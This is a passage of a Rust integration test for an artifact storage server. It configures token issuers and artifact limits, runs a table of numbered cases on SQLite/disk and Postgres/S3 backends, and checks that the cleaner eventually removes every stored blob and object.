        issuer::add(config, "forge", Some("wharfinger"));
        issuer::add_public(config, "ghes", &issuers.keys.url);
        config.issuers.push(IssuerSettings {
            iss: None,
            jwks_url: Some(issuers.keys.url.clone()),
            allowed_owner_ids: Some(vec![ALLOWED_OWNER_ID]),
            ..issuer::settings("github", IssuerKind::GithubRuntime)
        });
        config.artifacts.max_per_job = u32::try_from(MAX_PER_JOB).unwrap();
        config.artifacts.max_size_bytes = MAX_ARTIFACT_BYTES;
        config.artifacts.max_files = MAX_FILES;
        config.artifacts.max_pending_per_run = u32::try_from(MAX_PENDING_PER_RUN).unwrap();
    })
    .await;
    // What B022 and B132 leave in another repository's runs.
    let mut finalized = 2;
    for row in &rows {
        let not_yet = NOT_YET.iter().find(|(from, to, _)| within(row.id, from, to));
        if let Some((_, _, why)) = not_yet {
            println!("not yet: {}: {why}", row.id);
            continue;
        }
        assert!(
            NAMED.iter().any(|(from, to)| within(row.id, from, to)),
            "{} is a new row: give it code or say why it has none",
            row.id
        );
        let mut case = Case::new(backend, &server, &issuers, row);
        Box::pin(play(row.id, &mut case)).await;
        finalized += case.finish().await;
    }
    leaves_nothing(&server, finalized).await;
    server.stop().await;
}

/// What the rows left is what they may leave, and the cleaner takes all of it away in time.
async fn leaves_nothing(server: &TestServer, finalized: usize) {
    let services = &server.app.services;
    let objects = || async { services.store.list_all().try_collect::<Vec<_>>().await.unwrap() };
    server.advance(server.config.uploads.abandoned_after);
    services.clean().await.unwrap().unwrap();
    server.advance(server.config.cleaner.sweep_after + server.config.cleaner.delete_grace);
    services.clean().await.unwrap().unwrap();
    let sealed = i64::try_from(finalized).unwrap();
    assert_eq!(
        services.db.blob_counts().await.unwrap(),
        [("sealed".to_owned(), sealed)]
    );
    for object in objects().await {
        assert!(services.db.is_object_in_use(&object.key).await.unwrap(), "{object:?}");
    }
    server.advance(server.config.artifacts.default_retention);
    services.clean().await.unwrap().unwrap();
    server.advance(server.config.cleaner.sweep_after + server.config.cleaner.delete_grace);
    services.clean().await.unwrap().unwrap();
    assert_eq!(services.db.blob_counts().await.unwrap(), []);
    assert_eq!(objects().await, []);
}

#[tokio::test(flavor = "multi_thread")]
async fn rows_on_sqlite_and_disk() {
    play_all(Backend::SqliteDisk).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn rows_on_postgres_and_s3() {
    play_all(Backend::PostgresS3).await;
}
